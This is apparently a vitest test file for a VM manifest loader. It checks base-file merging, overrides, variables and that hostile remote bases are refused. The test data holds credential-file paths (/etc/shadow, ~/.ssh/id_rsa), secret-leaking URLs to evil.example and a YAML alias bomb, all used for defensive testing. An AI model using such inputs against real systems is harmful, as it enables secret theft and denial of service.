import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { loadManifest } from '../../../src/manifest/index.ts'
import { type Files, load, loadError, render, withFolder } from '../../helpers/manifest.ts'

/** What a server has, by URL; asked for like the real one. */
const server = (files: Record<string, string>) => ({
  fetch: async ({ url }: { url: string }) => {
    const text = files[url]
    if (text === undefined) throw new Error(`${url} is not to be fetched`)
    return Buffer.from(text)
  },
})

/** Paths of a manifest with the project's folder left out. */
async function loadRelative(files: Files, options = {}) {
  return withFolder(files, async (cwd) => {
    const manifest = await loadManifest({ cwd, env: {}, ...options })
    return JSON.parse(JSON.stringify(manifest).replaceAll(cwd, '<root>'))
  })
}

describe('a manifest that extends another', () => {
  test('is laid over it, and its override over both', async () => {
    const { machines, name } = await load({
      'base.yaml': `version: 1
name: platform
defaults: {box: debian/12, memory: 2GiB, env: {A: base, B: base, C: base}, ports: ["1:1"]}
machines: {db: {disk: 10GiB}, old: {}}
`,
      'posada.yaml': `version: 1
extends: ./base.yaml
defaults: {cpus: 2, env: {B: own, C: own}}
machines: {db: {ports: ["2:2"]}, old: null, web: }
`,
      'posada.override.yaml': 'defaults: {memory: null, env: {C: override}}\n',
    })
    expect(name).toBe('platform')
    expect(machines.map((machine) => machine.name)).toEqual(['db', 'web'])
    expect(machines[0]).toMatchObject({
      cpus: 2,
      memory: 1024 ** 3,
      disk: 10 * 1024 ** 3,
      env: { A: 'base', B: 'own', C: 'override' },
      ports: [{ hostPort: 2 }],
    })
  })

  test('may build on several, each on the next', async () => {
    const { machines } = await load({
      'a/c.yaml': 'box: debian/12\nenv: {A: c, B: c, C: c}\n',
      'a/b.yaml': 'extends: ./c.yaml\nenv: {A: b, B: b}\ncpus: 3\n',
      'posada.yaml': 'version: 1\nextends: a/b.yaml\nenv: {A: own}\n',
    })
    expect(machines[0]).toMatchObject({ cpus: 3, env: { A: 'own', B: 'b', C: 'c' } })
  })

  test('what an override removes is gone, also where the base has it as well', async () => {
    const { machines } = await load({
      'base.yaml': 'box: debian/12\ndisk: 10GiB\n',
      'posada.yaml': 'version: 1\nextends: ./base.yaml\ndisk: 20GiB\n',
      'posada.override.yaml': 'disk: null\n',
    })
    expect(machines[0]?.disk).toBeNull()
  })

  test('the override may name another base, or none', async () => {
    const files = {
      'base.yaml': 'box: debian/12\ncpus: 2\n',
      'mine.yaml': 'box: debian/12\ncpus: 4\n',
      'posada.yaml': 'version: 1\nextends: ./base.yaml\nbox: debian/13\n',
    }
    const cpus = async (override: string) =>
      (await load({ ...files, 'posada.override.yaml': override })).machines[0]?.cpus
    expect(await cpus('extends: ./mine.yaml\n')).toBe(4)
    expect(await cpus('extends: null\n')).toBe(1)
  })

  test('has variables in the path and in the base', async () => {
    const { machines } = await load({
      '.env': 'STAGE=dev\nCPUS=3\n',
      'dev.yaml': 'box: debian/12\ncpus: ${CPUS}\n',
      'posada.yaml': 'version: 1\nextends: ./${STAGE}.yaml\n',
    })
    expect(machines[0]?.cpus).toBe(3)
    const plain = { 'posada.yaml': 'version: 1\nextends: ./dev.yaml\n' }
    const base = { '.env': 'CPUS=3\n', 'dev.yaml': 'box: debian/12\ncpus: ${CPUS}\n' }
    expect((await load({ ...plain, ...base })).machines[0]?.cpus).toBe(3)
  })

  test('paths in a base begin at its own folder', async () => {
    const manifest = await loadRelative({
      'platform/base.yaml': `catalogues: [./boxes.json, https://example.com/c.json]
boxes: {shop/base: ./recipe}
defaults:
  box: ./web.tar
  cloud_init: ./user-data
  provision:
    - shell: ./setup.sh
    - shell: {path: more.sh}
    - file: {from: ../nginx.conf, to: /x}
`,
      'posada.yaml': 'version: 1\nextends: platform/base.yaml\nmachines: {a: {}, b: {box: ./own.tar}}\n',
    })
    expect(manifest).toMatchObject({
      catalogues: ['<root>/platform/boxes.json', 'https://example.com/c.json'],
      boxes: { 'shop/base': '<root>/platform/recipe' },
      machines: [
        {
          box: './platform/web.tar',
          cloudInit: { path: '<root>/platform/user-data' },
          provision: [
            { source: { path: '<root>/platform/setup.sh' } },
            { source: { path: '<root>/platform/more.sh' } },
            { source: { path: '<root>/nginx.conf' } },
          ],
        },
        { box: './own.tar' },
      ],
    })
  })
})

describe('a base from a URL', () => {
  const url = 'https://h.example/platform/base.yaml'
  const own = (rest = '') => `version: 1\nextends: ${url}\n${rest}`

  test('is fetched; what lies beside it is on its server', async () => {
    const sha256 = 'a'.repeat(64)
    const manifest = await loadRelative(
      { 'posada.yaml': `version: 1\nextends: ${url}#sha256=${sha256}\n` },
      server({
        [url]: `extends: ./more.yaml
provision: [{shell: ./setup.sh}, {shell: {path: ../all.sh}}]
`,
        'https://h.example/platform/more.yaml': 'box: debian/12\n',
      }),
    )
    expect(manifest.machines[0].provision.map(({ source }: { source: object }) => source)).toEqual([
      { url: 'https://h.example/platform/setup.sh', checksum: null },
      { url: 'https://h.example/all.sh', checksum: null },
    ])
  })

  test.each([
    ['extends', '/home/ann/secrets.yaml'],
    ['extends', '~/secrets.yaml'],
    ['box', './a.tar'],
    ['box', '/srv/a.tar'],
    ['catalogues', '[/srv/boxes.json]'],
    ['boxes', '{shop/base: /srv/recipe}'],
    ['cloud_init', './x'],
    ['cloud_init', '/etc/shadow'],
    ['provision', '[{shell: /opt/a.sh}]'],
    ['provision', '[{shell: {path: /opt/a.sh}}]'],
    ['provision', '[{file: {from: x, to: /x}}]'],
    ['provision', '[{file: {from: /root/.ssh/id_rsa, to: /x}}]'],
    ['provision', '[{file: {from: ~/.ssh/id_rsa, to: /x}}]'],
    ['hooks', '{after: {up: id}}'],
    ['provision', '[{ansible: /etc/ansible/x.yml}]'],
    ['provision', '[{shell: a, sensitive: {A: {env: TOKEN}}}]'],
    ['provision', '[{shell: a, sensitive: {A: {command: id}}}]'],
    ['providers', '{qemu: {binary: /bin/sh}}'],
    ['machines', '{web: {providers: {qemu: {args: [-S]}}}}'],
  ])('names no files and programs of this computer in %s: %s', async (key, value) => {
    const error = await loadError({ 'posada.yaml': own() }, server({ [url]: `${key}: ${value}\n` }))
    const code = value.includes('~') ? 'E_VALUE_INVALID' : 'E_BASE_FETCHED'
    const refused = error.problems.filter((problem) => problem.code === code)
    expect(refused).toMatchObject([{ place: { file: url, line: 1 }, hint: expect.any(String) }])
  })

  test('slips no options of a provider among those of posada.yaml', async () => {
    const files = { 'posada.yaml': own('box: debian/12\nproviders: {qemu: {args: [-S]}}\n') }
    const { machines } = await load(files, server({ [url]: 'cpus: 2\n' }))
    expect(machines[0]?.providers).toEqual({ qemu: { args: ['-S'] } })
    const error = await loadError(files, server({ [url]: 'providers: {qemu: {binary: /bin/sh}}\n' }))
    expect(render(error)).toMatchInlineSnapshot(`
      "base.yaml:1:20 E_BASE_FETCHED a manifest that was fetched may not have 'providers', which says what runs on this computer
        | providers: {qemu: {binary: /bin/sh}}
        |                    ^^^^^^
        = put 'providers' into posada.yaml, if you want what it says"
    `)
  })

  test.each([
    ['extends', './next-${SECRET:-}.yaml'],
    ['extends', 'https://evil.example/${SECRET}.yaml'],
    ['box', 'https://evil.example/${SECRET}'],
    ['box', '{from: "oci://evil.example/${SECRET}"}'],
    ['catalogues', '["https://evil.example/${SECRET}.json"]'],
    ['provision', '[{shell: "https://evil.example/${SECRET}.sh"}]'],
    ['provision', '[{shell: {url: "https://evil.example/${SECRET}.sh"}}]'],
    ['provision', '[{shell: {path: "${SECRET}.sh"}}]'],
    ['provision', '[{file: {from: "/${SECRET}", to: /x}}]'],
  ])('has no variables in %s: %s', async (key, value) => {
    const files = { '.env': 'SECRET=hunter2\n', 'posada.yaml': own() }
    const error = await loadError(files, server({ [url]: `${key}: ${value}\n` }))
    const refused = error.problems.filter(({ code }) => code === 'E_BASE_FETCHED')
    expect(refused).toMatchObject([{ place: { file: url, line: 1 }, hint: expect.any(String) }])
    expect(render(error)).not.toContain('hunter2')
  })

  test.each([
    ['extends', 'https://evil.example/${SECRET}.yaml'],
    ['extends', 'https://${SECRET}@evil.example/base.yaml'],
    ['extends', '${NONE:-https://evil.example/${SECRET}}'],
    ['extends', '${NONE:-https://evil.example/}${SECRET}'],
    ['box', 'https://evil.example/${SECRET}'],
    ['box', 'vagrant:evil/${SECRET}'],
    ['box', '{from: "oci://evil.example/${SECRET}"}'],
    ['catalogues', '["https://evil.example/${SECRET}.json"]'],
    ['provision', '[{shell: "https://evil.example/${SECRET}.sh"}]'],
    ['provision', '[{shell: {url: "https://evil.example/${SECRET}.sh"}}]'],
  ])('is not sent a variable, nor is any other server, by %s: %s', async (key, value) => {
    const files = { '.env': 'SECRET=hunter2\n', 'posada.yaml': `version: 1\n${key}: ${value}\n` }
    const asked: string[] = []
    const fetch = async ({ url: at }: { url: string }) => {
      asked.push(at)
      return Buffer.from('box: debian/12\n')
    }
    const error = await loadError(files, { fetch })
    expect(error.problems).toContainEqual(expect.objectContaining({ code: 'E_ADDRESS_VARIABLE' }))
    expect(render(error)).not.toContain('hunter2')
    expect(asked).toEqual([])
  })

  test.each(['${BASE}', '${BASE:-https://other.example/x.yaml}', '${NONE:-https://h.example/base.yaml}'])(
    'may be all of a variable: %s',
    async (value) => {
      const at = 'https://h.example/base.yaml'
      const files = { 'posada.yaml': `version: 1\nextends: ${value}\n` }
      const { machines } = await load(files, { env: { BASE: at }, ...server({ [at]: 'box: debian/12\n' }) })
      expect(machines).toHaveLength(1)
    },
  )

  test('has variables in what goes into the guest', async () => {
    const { machines } = await load(
      { '.env': 'A=1\n', 'posada.yaml': own() },
      server({ [url]: 'box: debian/12\nenv: {A: "${A}"}\n' }),
    )
    expect(machines[0]?.env).toEqual({ A: '1' })
  })

  test('shows no credentials', async () => {
    const secret = 'https://ann:s3cret@h.example/base.yaml?token=abc'
    const error = await loadError(
      { 'posada.yaml': 'version: 1\nextends: ${BASE}\n' },
      { env: { BASE: secret }, ...server({ [secret]: 'box: 1\ncpus: x\n' }) },
    )
    expect(JSON.stringify([error.message, error.value, ...error.problems])).not.toMatch(/s3cret|abc/)
  })

  test.each([
    ['http://h.example/base.yaml', 'what comes by http may have been changed on the way'],
    [`${url}#md5=0123`, 'what follows # is not a checksum'],
    ['https://', 'it is not a URL'],
  ])('is refused at %s', async (at, problem) => {
    const error = await loadError(`version: 1\nextends: ${at}\n`)
    expect(render(error)).toContain(`posada.yaml:2:10 E_VALUE_INVALID expected an address to fetch from, got`)
    expect(render(error)).toContain(`: ${problem}`)
  })

  test('is not asked for where something is wrong already', async () => {
    const error = await loadError({ 'posada.yaml': own('a: 1\na: 2\n') }, server({}))
    expect(render(error)).toContain("E_YAML the key 'a' is there twice")
  })
})

describe('what is wrong with a base', () => {
  const extending = (rest: Files) => ({ 'posada.yaml': 'version: 1\nextends: ./base.yaml\n', ...rest })
  const shown = async (rest: Files) =>
    render(await loadError(extending(rest))).replaceAll(/\/tmp\/\S+\/shop/g, '<root>')

  test('a problem in it is shown where it stands', async () => {
    expect(await shown({ 'base.yaml': 'box: debian/12\ncpus: many\nmemroy: 1GiB\n' })).toMatchInlineSnapshot(`
      "base.yaml:2:7 E_VALUE_TYPE expected a whole number from 1 to 255, got the text "many"
        | cpus: many
        |       ^^^^
      base.yaml:3:1 E_KEY_UNKNOWN the manifest has no key 'memroy'
        | memroy: 1GiB
        | ^^^^^^
        = did you mean 'memory'?"
    `)
  })

  test('what is missing is missed in the user’s own file', async () => {
    expect(await shown({ 'base.yaml': 'cpus: 2\n' })).toMatch(/^posada.yaml:1:1 E_KEY_MISSING .*'box'/)
  })

  test.each<[string, Files, string]>([
    ['missing', {}, '2:10 E_EXTENDS there is no file <root>/base.yaml'],
    ['empty', { 'base.yaml': '# later\n' }, '2:10 E_EXTENDS the base manifest <root>/base.yaml is empty'],
    [
      'no mapping',
      { 'base.yaml': '- a\n' },
      'base.yaml:1:1 E_VALUE_TYPE expected a mapping of keys, got a list',
    ],
    ['no YAML', { 'base.yaml': 'a: [\n' }, 'base.yaml:1:4 E_YAML'],
    ['no UTF-8', { 'base.yaml': Buffer.from([0x61, 0xff]) }, 'base.yaml:1:2 E_YAML the file is not in UTF-8'],
    [
      'of another version',
      { 'base.yaml': 'version: 2\n' },
      'base.yaml:1:10 E_VALUE_INVALID expected the number 1',
    ],
    ['itself', { 'base.yaml': 'extends: base.yaml\n' }, 'base.yaml:1:10 E_EXTENDS base.yaml extends itself'],
    [
      'a circle',
      { 'base.yaml': 'extends: ./b.yaml\n', 'b.yaml': 'extends: ./posada.yaml\n' },
      'b.yaml:1:10 E_EXTENDS manifests extend each other in a circle: posada.yaml → base.yaml → b.yaml → posada.yaml',
    ],
  ])('%s', async (_, files, problem) => {
    expect(await shown(files)).toContain(problem)
  })

  test('a chain of eight is taken, one of nine is not', async () => {
    const chain = (length: number) =>
      Object.fromEntries(
        Array.from({ length }, (_, index) => [
          index === 0 ? 'posada.yaml' : `b${index}.yaml`,
          `version: 1\nbox: debian/12\n${index + 1 < length ? `extends: ./b${index + 1}.yaml\n` : ''}`,
        ]),
      )
    await load(chain(9))
    expect(render(await loadError(chain(10)))).toContain('b8.yaml:3:10 E_EXTENDS more than 8 manifests')
  })

  test.each<[string, string | Uint8Array, string]>([
    ['a bomb of aliases', bomb(), 'E_MANIFEST_TOO_LARGE'],
    ['brackets without end', 'a: '.padEnd(100_000, '['), 'E_MANIFEST_TOO_LARGE'],
    ['more than a mebibyte', new Uint8Array(2 ** 20 + 1).fill(0x20), 'E_MANIFEST_TOO_LARGE'],
  ])('%s', async (_, text, code) => {
    expect(await loadError(extending({ 'base.yaml': text }))).toMatchObject({ code })
    const url = 'https://h.example/b.yaml'
    if (typeof text === 'string')
      expect(await loadError(`version: 1\nextends: ${url}\n`, server({ [url]: text }))).toMatchObject({
        code,
        place: { file: url },
      })
  })

  test('a folder is told with the place that names it', async () => {
    await withFolder(extending({ 'base.yaml/x': '' }), async (cwd) => {
      await expect(loadManifest({ cwd, env: {} })).rejects.toMatchObject({
        code: 'E_MANIFEST_READ',
        message: `${join(cwd, 'base.yaml')} is a folder`,
        place: { file: join(cwd, 'posada.yaml'), line: 2, column: 10 },
      })
    })
  })
})

function bomb(): string {
  const lines = Array.from({ length: 30 }, (_, n) => `  - &a${n + 1} [*a${n}, *a${n}]`)
  return `x:\n  - &a0 [1]\n${lines.join('\n')}\n`
}
